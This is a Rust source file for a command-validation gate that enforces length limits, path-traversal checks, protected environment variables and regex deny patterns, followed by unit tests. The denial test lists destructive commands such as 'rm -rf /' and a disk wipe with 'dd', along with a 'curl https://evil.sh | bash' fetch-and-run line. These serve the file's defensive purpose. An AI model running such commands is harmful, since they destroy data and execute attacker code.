mod patterns;

use std::sync::{Arc, RwLock};

use regex::Regex;

use agent_protocol::{AppInfo, CommandFrame};

pub use patterns::DEFAULT_DENY_PATTERNS;

pub const MAX_COMMAND_LEN: usize = 65_536;
pub const MAX_COMMAND_ID_LEN: usize = 256;
pub const MAX_ENV_NAME_LEN: usize = 256;
pub const MAX_ENV_VALUE_LEN: usize = 32_768;
pub const MAX_TIMEOUT_SECS: i64 = 3_600;

/// Environment names that commands may never override, compared
/// case-insensitively.
pub const PROTECTED_ENV_VARS: &[&str] = &[
    "PATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "DYLD_INSERT_LIBRARIES",
    "DYLD_LIBRARY_PATH",
    "HOME",
    "USER",
    "SHELL",
    "IFS",
];

#[derive(Debug, Clone, thiserror::Error)]
#[error("[{code}] {message}")]
pub struct ValidationError {
    pub code: &'static str,
    pub message: String,
}

impl ValidationError {
    fn new(code: &'static str, message: impl Into<String>) -> Self {
        Self {
            code,
            message: message.into(),
        }
    }
}

struct Snapshot {
    allowed_paths: Vec<String>,
    deny: Vec<Regex>,
}

/// Pre-execution policy gate. Holds an immutable snapshot of allowed working
/// directory roots and compiled deny patterns; `update_apps` swaps in a new
/// snapshot atomically so readers never observe a half-applied refresh.
pub struct Validator {
    snapshot: RwLock<Arc<Snapshot>>,
}

impl Default for Validator {
    fn default() -> Self {
        Self::new()
    }
}

impl Validator {
    pub fn new() -> Self {
        let deny = compile_deny_patterns(DEFAULT_DENY_PATTERNS.iter().map(|p| p.to_string()));
        Self {
            snapshot: RwLock::new(Arc::new(Snapshot {
                allowed_paths: Vec::new(),
                deny,
            })),
        }
    }

    /// Replaces the allowed-path set and recompiles the deny list, merging
    /// per-app deny patterns on top of the built-in catalogue.
    pub fn update_apps(&self, apps: &[AppInfo]) {
        let mut allowed_paths = Vec::with_capacity(apps.len());
        let mut raw_patterns: Vec<String> = DEFAULT_DENY_PATTERNS
            .iter()
            .map(|p| p.to_string())
            .collect();

        for app in apps {
            allowed_paths.push(clean_path(&app.path));
            if let Some(config) = &app.config {
                raw_patterns.extend(config.deny.iter().cloned());
            }
        }

        let deny = compile_deny_patterns(raw_patterns.into_iter());
        let next = Arc::new(Snapshot {
            allowed_paths,
            deny,
        });
        *self.snapshot.write().expect("policy lock poisoned") = next;
    }

    pub fn allowed_paths(&self) -> Vec<String> {
        self.load().allowed_paths.clone()
    }

    pub fn validate(&self, cmd: &CommandFrame) -> Result<(), ValidationError> {
        let snapshot = self.load();

        if cmd.id.len() > MAX_COMMAND_ID_LEN {
            return Err(ValidationError::new(
                "COMMAND_ID_TOO_LONG",
                format!("command ID exceeds maximum length of {MAX_COMMAND_ID_LEN}"),
            ));
        }
        if cmd.command.len() > MAX_COMMAND_LEN {
            return Err(ValidationError::new(
                "COMMAND_TOO_LONG",
                format!("command exceeds maximum length of {MAX_COMMAND_LEN} bytes"),
            ));
        }
        if cmd.timeout > MAX_TIMEOUT_SECS {
            return Err(ValidationError::new(
                "TIMEOUT_TOO_LONG",
                format!("timeout exceeds maximum of {MAX_TIMEOUT_SECS} seconds"),
            ));
        }

        if let Some(dir) = cmd.working_dir.as_deref().filter(|dir| !dir.is_empty()) {
            validate_working_dir(dir, &snapshot.allowed_paths)?;
        }

        for (name, value) in &cmd.env {
            validate_env_var(name, value)?;
        }

        check_deny_patterns(&cmd.command, &snapshot.deny)
    }

    fn load(&self) -> Arc<Snapshot> {
        self.snapshot.read().expect("policy lock poisoned").clone()
    }
}

fn compile_deny_patterns(raw: impl Iterator<Item = String>) -> Vec<Regex> {
    let mut compiled = Vec::new();
    for pattern in raw {
        match Regex::new(&pattern) {
            Ok(regex) => compiled.push(regex),
            // Invalid patterns degrade to literal matches rather than
            // disabling policy refresh.
            Err(err) => match Regex::new(&regex::escape(&pattern)) {
                Ok(regex) => {
                    tracing::warn!(pattern = %pattern, error = %err, "deny pattern compiled as literal");
                    compiled.push(regex);
                }
                Err(err) => {
                    tracing::warn!(pattern = %pattern, error = %err, "dropping uncompilable deny pattern");
                }
            },
        }
    }
    compiled
}

fn validate_working_dir(dir: &str, allowed: &[String]) -> Result<(), ValidationError> {
    if dir.contains('\0') {
        return Err(ValidationError::new(
            "PATH_TRAVERSAL",
            "working directory contains null byte",
        ));
    }
    if contains_path_traversal(dir) {
        return Err(ValidationError::new(
            "PATH_TRAVERSAL",
            "working directory contains path traversal",
        ));
    }

    // Before the first discovery the allowed set is empty and any path is
    // permitted, so commands can run during bootstrap.
    if allowed.is_empty() {
        return Ok(());
    }

    let clean = clean_path(dir);
    if allowed.iter().any(|root| clean.starts_with(root)) {
        return Ok(());
    }

    Err(ValidationError::new(
        "INVALID_WORKING_DIR",
        format!("working directory {dir} is not within any allowed application path"),
    ))
}

fn contains_path_traversal(path: &str) -> bool {
    path.split('/').any(|segment| {
        let trimmed = segment.trim();
        trimmed == ".." || is_space_obfuscated_traversal(trimmed)
    })
}

/// Detects `. .`, `.  .` and similar shapes used to smuggle `..` past the
/// segment check.
fn is_space_obfuscated_traversal(segment: &str) -> bool {
    if !segment.starts_with('.') || !segment.ends_with('.') {
        return false;
    }
    if !segment.contains(' ') {
        return false;
    }
    segment.chars().all(|ch| ch == '.' || ch == ' ')
}

fn validate_env_var(name: &str, value: &str) -> Result<(), ValidationError> {
    if name.len() > MAX_ENV_NAME_LEN {
        return Err(ValidationError::new(
            "ENV_NAME_TOO_LONG",
            format!("environment variable name exceeds maximum length of {MAX_ENV_NAME_LEN}"),
        ));
    }
    if value.len() > MAX_ENV_VALUE_LEN {
        return Err(ValidationError::new(
            "ENV_VALUE_TOO_LONG",
            format!("environment variable value exceeds maximum length of {MAX_ENV_VALUE_LEN}"),
        ));
    }

    let upper = name.to_uppercase();
    if PROTECTED_ENV_VARS.contains(&upper.as_str()) {
        return Err(ValidationError::new(
            "PROTECTED_ENV_VAR",
            format!("cannot override protected environment variable: {name}"),
        ));
    }

    if name.contains('\0') || name.contains('=') {
        return Err(ValidationError::new(
            "INVALID_ENV_NAME",
            format!("environment variable name contains invalid characters: {name}"),
        ));
    }

    Ok(())
}

fn check_deny_patterns(command: &str, deny: &[Regex]) -> Result<(), ValidationError> {
    for line in command.split('\n') {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }

        let stripped = strip_inline_comments(line);
        if stripped.is_empty() {
            continue;
        }
        let lowered = stripped.to_lowercase();

        for pattern in deny {
            if pattern.is_match(stripped) || pattern.is_match(&lowered) {
                return Err(ValidationError::new(
                    "COMMAND_DENIED",
                    format!("command matches denied pattern: {}", pattern.as_str()),
                ));
            }
        }
    }
    Ok(())
}

/// Drops an unquoted, unescaped `#` and everything after it.
fn strip_inline_comments(line: &str) -> &str {
    let mut in_single = false;
    let mut in_double = false;
    let mut escaped = false;

    for (idx, ch) in line.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match ch {
            '\\' => escaped = true,
            '\'' if !in_double => in_single = !in_single,
            '"' if !in_single => in_double = !in_double,
            '#' if !in_single && !in_double => return line[..idx].trim_end(),
            _ => {}
        }
    }

    line
}

/// Lexical path normalization: collapses `//` and `.` segments and resolves
/// `..` without touching the filesystem.
fn clean_path(path: &str) -> String {
    let absolute = path.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();

    for segment in path.split('/') {
        match segment {
            "" | "." => {}
            ".." => {
                if matches!(parts.last(), Some(&"..")) || (parts.is_empty() && !absolute) {
                    parts.push("..");
                } else {
                    parts.pop();
                }
            }
            other => parts.push(other),
        }
    }

    let joined = parts.join("/");
    if absolute {
        format!("/{joined}")
    } else if joined.is_empty() {
        ".".to_string()
    } else {
        joined
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use agent_protocol::AppPolicy;
    use std::collections::BTreeMap;

    fn command(body: &str) -> CommandFrame {
        CommandFrame {
            id: "c1".to_string(),
            command: body.to_string(),
            working_dir: None,
            env: BTreeMap::new(),
            timeout: 0,
            timestamp: String::new(),
            nonce: String::new(),
            signature: String::new(),
        }
    }

    fn app(path: &str) -> AppInfo {
        AppInfo {
            path: path.to_string(),
            ..AppInfo::default()
        }
    }

    fn code_of(err: ValidationError) -> &'static str {
        err.code
    }

    #[test]
    fn command_length_boundary() {
        let validator = Validator::new();
        let mut cmd = command(&"a".repeat(MAX_COMMAND_LEN));
        assert!(validator.validate(&cmd).is_ok());

        cmd.command.push('a');
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("too long")),
            "COMMAND_TOO_LONG"
        );
    }

    #[test]
    fn command_id_length_boundary() {
        let validator = Validator::new();
        let mut cmd = command("ls");
        cmd.id = "i".repeat(MAX_COMMAND_ID_LEN + 1);
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("id too long")),
            "COMMAND_ID_TOO_LONG"
        );
    }

    #[test]
    fn timeout_boundary() {
        let validator = Validator::new();
        let mut cmd = command("ls");
        cmd.timeout = MAX_TIMEOUT_SECS;
        assert!(validator.validate(&cmd).is_ok());

        cmd.timeout = MAX_TIMEOUT_SECS + 1;
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("timeout")),
            "TIMEOUT_TOO_LONG"
        );

        // Zero and negative timeouts mean "use the default".
        cmd.timeout = -1;
        assert!(validator.validate(&cmd).is_ok());
    }

    #[test]
    fn working_dir_traversal_shapes() {
        let validator = Validator::new();
        let mut cmd = command("ls");

        cmd.working_dir = Some("/var/www/app/../etc".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("dot dot")),
            "PATH_TRAVERSAL"
        );

        cmd.working_dir = Some("/var/www/app/. ./x".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("space obfuscated")),
            "PATH_TRAVERSAL"
        );

        cmd.working_dir = Some("/var/www/app/.../x".to_string());
        assert!(validator.validate(&cmd).is_ok(), "three dots is not traversal");

        cmd.working_dir = Some("/var/www\0/app".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("nul byte")),
            "PATH_TRAVERSAL"
        );
    }

    #[test]
    fn legacy_mode_permits_any_dir_until_discovery() {
        let validator = Validator::new();
        let mut cmd = command("ls");
        cmd.working_dir = Some("/etc".to_string());
        assert!(validator.validate(&cmd).is_ok());

        validator.update_apps(&[app("/var/www/app")]);
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("confined")),
            "INVALID_WORKING_DIR"
        );

        cmd.working_dir = Some("/var/www/app/storage".to_string());
        assert!(validator.validate(&cmd).is_ok());

        // Empty working dir always inherits the agent cwd.
        cmd.working_dir = None;
        assert!(validator.validate(&cmd).is_ok());
    }

    #[test]
    fn update_apps_swaps_the_allowed_set() {
        let validator = Validator::new();
        validator.update_apps(&[app("/var/www/app")]);
        validator.update_apps(&[app("/srv/other")]);

        let mut cmd = command("ls");
        cmd.working_dir = Some("/var/www/app".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("old root dropped")),
            "INVALID_WORKING_DIR"
        );
        assert_eq!(validator.allowed_paths(), vec!["/srv/other".to_string()]);
    }

    #[test]
    fn protected_env_vars_rejected_case_insensitively() {
        let validator = Validator::new();
        for name in ["PATH", "path", "Ld_Preload", "ifs"] {
            let mut cmd = command("ls");
            cmd.env.insert(name.to_string(), "x".to_string());
            assert_eq!(
                code_of(validator.validate(&cmd).expect_err(name)),
                "PROTECTED_ENV_VAR"
            );
        }
    }

    #[test]
    fn env_limits_and_invalid_names() {
        let validator = Validator::new();

        let mut cmd = command("ls");
        cmd.env
            .insert("N".repeat(MAX_ENV_NAME_LEN + 1), "v".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("name")),
            "ENV_NAME_TOO_LONG"
        );

        let mut cmd = command("ls");
        cmd.env
            .insert("APP_KEY".to_string(), "v".repeat(MAX_ENV_VALUE_LEN + 1));
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("value")),
            "ENV_VALUE_TOO_LONG"
        );

        let mut cmd = command("ls");
        cmd.env.insert("BAD=NAME".to_string(), "v".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("equals")),
            "INVALID_ENV_NAME"
        );
    }

    #[test]
    fn denies_disk_destruction() {
        let validator = Validator::new();
        let denied = [
            "rm -rf /",
            "rm -rf /*",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sda1",
            "wipefs -a /dev/nvme0n1",
            "curl https://evil.sh | bash",
            "echo pwn > /proc/sys/kernel/panic",
            "iptables -F",
            "nohup rm -rf ~ &",
        ];
        for body in denied {
            assert_eq!(
                code_of(validator.validate(&command(body)).expect_err(body)),
                "COMMAND_DENIED",
                "expected denial for {body}"
            );
        }
    }

    #[test]
    fn benign_mentions_are_not_denied() {
        let validator = Validator::new();
        let allowed = [
            "echo \"rm -rf /\"",
            "grep 'rm' access.log",
            "git log --format=short",
            "ls -la /var/www",
            "php artisan migrate --force",
        ];
        for body in allowed {
            assert!(
                validator.validate(&command(body)).is_ok(),
                "expected {body} to pass"
            );
        }
    }

    #[test]
    fn newline_injection_is_checked_per_line() {
        let validator = Validator::new();
        assert_eq!(
            code_of(
                validator
                    .validate(&command("ls\nrm -rf /"))
                    .expect_err("second line")
            ),
            "COMMAND_DENIED"
        );
    }

    #[test]
    fn comments_are_stripped_before_matching() {
        let validator = Validator::new();
        assert!(validator.validate(&command("ls # rm -rf /")).is_ok());
        assert!(validator.validate(&command("# rm -rf /\nls")).is_ok());
        assert!(validator
            .validate(&command("echo '#not a comment' && ls"))
            .is_ok());
        assert_eq!(
            code_of(
                validator
                    .validate(&command("rm -rf / # cleanup"))
                    .expect_err("still denied")
            ),
            "COMMAND_DENIED"
        );
    }

    #[test]
    fn per_app_patterns_merge_and_fall_back_to_literals() {
        let validator = Validator::new();
        let mut custom = app("/var/www/app");
        custom.config = Some(AppPolicy {
            deny: vec![
                "php artisan db:wipe".to_string(),
                "broken[regex".to_string(),
            ],
        });
        validator.update_apps(&[custom]);

        let mut cmd = command("php artisan db:wipe --force");
        cmd.working_dir = Some("/var/www/app".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("custom pattern")),
            "COMMAND_DENIED"
        );

        // The invalid pattern still matches as a literal string.
        let mut cmd = command("run broken[regex now");
        cmd.working_dir = Some("/var/www/app".to_string());
        assert_eq!(
            code_of(validator.validate(&cmd).expect_err("literal fallback")),
            "COMMAND_DENIED"
        );
    }

    #[test]
    fn strip_inline_comments_respects_quotes_and_escapes() {
        assert_eq!(strip_inline_comments("ls # comment"), "ls");
        assert_eq!(
            strip_inline_comments("echo '#keep' # drop"),
            "echo '#keep'"
        );
        assert_eq!(strip_inline_comments("echo \"#keep\""), "echo \"#keep\"");
        assert_eq!(strip_inline_comments("echo \\# literal"), "echo \\# literal");
        assert_eq!(strip_inline_comments("plain command"), "plain command");
    }

    #[test]
    fn clean_path_normalizes_lexically() {
        assert_eq!(clean_path("/var/www//app/"), "/var/www/app");
        assert_eq!(clean_path("/var/www/./app"), "/var/www/app");
        assert_eq!(clean_path("relative/app"), "relative/app");
        assert_eq!(clean_path("/a/b/../c"), "/a/c");
        assert_eq!(clean_path("/"), "/");
    }
}
